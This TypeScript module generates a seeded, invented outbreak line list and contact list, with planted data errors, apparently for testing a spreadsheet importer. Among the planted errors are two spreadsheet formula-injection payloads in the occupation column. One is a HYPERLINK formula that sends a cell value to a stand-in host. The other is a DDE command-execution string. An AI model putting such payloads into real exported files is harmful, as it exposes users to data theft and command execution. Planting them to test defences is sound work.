import {
  OCCUPATIONS,
  type Occupation,
  type Random,
  randomStream,
} from '../../packages/server/src/modules/drills/population/index.ts';

/** The tags of the R package linelist, then a hospital, and two columns the importer must deal with. */
export const COLUMNS = [
  'id',
  'date_onset',
  'date_reporting',
  'date_admission',
  'date_outcome',
  'outcome',
  'gender',
  'age',
  'location',
  'occupation',
  'hcw',
  'classification',
  'hospital',
  '民族',
  '灯号',
] as const;
type Column = (typeof COLUMNS)[number];
export type LineListRow = Record<Column, string>;
export const CONTACT_COLUMNS = ['from', 'to', 'date_exposure', 'relation'] as const;
export type ContactRow = Record<(typeof CONTACT_COLUMNS)[number], string>;

/** Line numbers of the file, the header being line 1, for each kind of planted error. */
export type Planted = Record<string, { column: string | null; lines: number[] }>;

export interface LineList {
  rows: LineListRow[];
  contacts: ContactRow[];
  planted: Planted;
  plantedContacts: Planted;
}

export const HOSPITALS = ['共和县中医院城北区院区', '共和县人民医院', '贵德县人民医院', '兴海县人民医院'];
const MISSPELT = [
  '共和县中医院城北院区',
  '共和县中医院城北区院曲',
  '共和县人民医完',
  '贵得县人民医院',
  '兴海县人民 医院',
];
const LOCATIONS = [
  '632521100001',
  '632521100003',
  '632521100010',
  '632521101001',
  '632523100001',
  '632524100001',
];
const RELATIONS = ['household', 'work', 'school', 'care', 'meal', 'transport'];
const GROWN_UP: Occupation[] = [
  'farmer',
  'herder',
  'worker',
  'trade_service',
  'food_service',
  'driver',
  'office_worker',
];

const CASES = 117;
const FIRST_ONSET = '2022-06-08';
const CUT_OFF = '2022-08-10';

/** 120 rows of an invented outbreak with planted errors, at most one in a row; the same for the same seed. */
export function makeLineList(seed = 20220811): LineList {
  const random = randomStream(seed, 9);
  const { rows, contacts } = makeChain(random);
  const planted = plantErrors(random, rows);
  return { rows, contacts, planted, plantedContacts: plantContactErrors(contacts) };
}

/** Each case is infected by one of the last 25; one in ten infects far more readily than the others. */
function makeChain(random: Random): { rows: LineListRow[]; contacts: ContactRow[] } {
  const rows: LineListRow[] = [];
  const contacts: ContactRow[] = [];
  const spreads: number[] = [];
  for (let i = 0; i < CASES; i++) {
    spreads.push(random.chance(0.1) ? 12 : 1);
    const infector = i === 0 ? null : pickInfector(random, spreads.slice(0, i));
    const onset = infector === null ? FIRST_ONSET : later(rows[infector]!.date_onset, random.between(2, 6));
    const id = `HN-${String(i + 1).padStart(3, '0')}`;
    rows.push(makeCase(random, id, onset));
    if (infector !== null) {
      contacts.push({
        from: rows[infector]!.id,
        to: id,
        date_exposure: later(onset, -random.between(1, 3)),
        relation: random.pick(RELATIONS),
      });
    }
  }
  return { rows, contacts };
}

function pickInfector(random: Random, spreads: number[]): number {
  const first = Math.max(0, spreads.length - 25);
  const recent = spreads.slice(first);
  let rest = random.next() * recent.reduce((sum, spread) => sum + spread, 0);
  const chosen = recent.findIndex((spread) => {
    rest -= spread;
    return rest < 0;
  });
  return first + Math.max(0, chosen);
}

function makeCase(random: Random, id: string, onset: string): LineListRow {
  const age = random.between(2, 84);
  const isCarer = age > 22 && age < 60 && random.chance(0.08);
  const grownUp = isCarer ? 'health_worker' : age >= 62 ? 'retired' : random.pick(GROWN_UP);
  const occupation: Occupation = age < 6 ? 'home_child' : age < 18 ? 'student' : grownUp;
  const reporting = later(onset, random.between(1, 4));
  const admission = later(reporting, random.between(0, 1));
  const ended = later(admission, random.between(7, 14));
  const isOver = ended <= CUT_OFF;
  return {
    id,
    date_onset: onset,
    date_reporting: reporting,
    date_admission: admission,
    date_outcome: isOver ? ended : '',
    outcome: isOver ? (age > 70 && random.chance(0.15) ? 'died' : 'recovered') : '',
    gender: random.pick(['male', 'female']),
    age: String(age),
    location: random.pick(LOCATIONS),
    occupation: OCCUPATIONS[occupation].zh,
    hcw: String(isCarer),
    classification: random.chance(0.8) ? 'confirmed' : random.pick(['probable', 'suspected']),
    hospital: random.pick(HOSPITALS),
    // Stands where a real list would carry the attribute; even an invented person gets none.
    民族: '不应导入',
    灯号: random.pick(['红', '黄', '绿']),
  };
}

function plantErrors(random: Random, rows: LineListRow[]): Planted {
  const planted: Planted = {};
  const taken = new Set<number>([0]);
  const plant = (
    kind: string,
    column: Column,
    count: number,
    change: (row: LineListRow, nth: number) => string,
    fits: (row: LineListRow) => boolean = () => true,
  ) => {
    const lines: number[] = [];
    while (lines.length < count) {
      const i = random.between(0, rows.length - 1);
      if (taken.has(i) || !fits(rows[i]!)) continue;
      taken.add(i);
      rows[i]![column] = change(rows[i]!, lines.length);
      lines.push(i + 2);
    }
    planted[kind] = { column, lines: lines.toSorted((a, b) => a - b) };
  };

  const isOver = (row: LineListRow) => row.date_outcome !== '';
  const day = (row: LineListRow) => Number(row.date_reporting.slice(8));
  plant('onset_after_outcome', 'date_onset', 3, (row, n) => later(row.date_outcome, n + 1), isOver);
  plant(
    'impossible_day',
    'date_onset',
    2,
    () => '2022-06-31',
    (row) => row.date_onset > '2022-06-28' && row.date_onset < '2022-07-04',
  );
  plant(
    'day_month_year',
    'date_reporting',
    4,
    (row) => slashed(row.date_reporting),
    (row) => day(row) > 12,
  );
  plant(
    'day_month_ambiguous',
    'date_reporting',
    2,
    (row) => slashed(row.date_reporting),
    (row) => day(row) <= 12 && day(row) !== Number(row.date_reporting.slice(5, 7)),
  );
  plant('future_date', 'date_reporting', 2, (row) => row.date_reporting.replace('2022', '2032'));
  plant('text_date', 'date_admission', 2, (_, n) => ['上周三', 'unknown'][n]!);
  plant('misspelt_hospital', 'hospital', 5, (_, n) => MISSPELT[n]!);
  plant('impossible_age', 'age', 1, () => '203');
  plant(
    'formula_cell',
    'occupation',
    2,
    (_, n) => ['=HYPERLINK("http://example.invalid/?"&A2,"教师")', "+CMD|' /C calc'!A0"][n]!,
  );

  const [copied, again, reused] = rows
    .keys()
    .filter((i) => i > 40 && !taken.has(i))
    .take(3)
    .toArray() as [number, number, number];
  planted['duplicate_row'] = {
    column: null,
    lines: [rows.push({ ...rows[copied]! }) + 1, rows.push({ ...rows[again]! }) + 1],
  };
  const other = makeCase(random, rows[reused]!.id, later(rows[reused]!.date_onset, 9));
  planted['duplicate_id'] = { column: 'id', lines: [rows.push(other) + 1] };
  return planted;
}

function plantContactErrors(contacts: ContactRow[]): Planted {
  const template = contacts[30]!;
  const unknown = contacts.push({ ...template, to: 'HN-999' }) + 1;
  const self = contacts.push({ ...template, to: template.from }) + 1;
  const copy = contacts.push({ ...contacts[10]! }) + 1;
  return {
    unknown_case: { column: 'to', lines: [unknown] },
    self_contact: { column: 'to', lines: [self] },
    duplicate_row: { column: null, lines: [copy] },
  };
}

/** 2022-06-21 → 21/06/2022 */
const slashed = (day: string) => day.split('-').reverse().join('/');

function later(day: string, days: number): string {
  return new Date(Date.parse(day) + days * 86_400_000).toISOString().slice(0, 10);
}

/** RFC 4180: a field with a comma, quote or line break is quoted, quotes doubled. */
export function toCsv(
  columns: readonly string[],
  rows: readonly Record<string, string>[],
  lineEnd = '\n',
): string {
  const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  const lines = rows.map((row) => columns.map((column) => field(row[column]!)).join(','));
  return [columns.join(','), ...lines, ''].join(lineEnd);
}
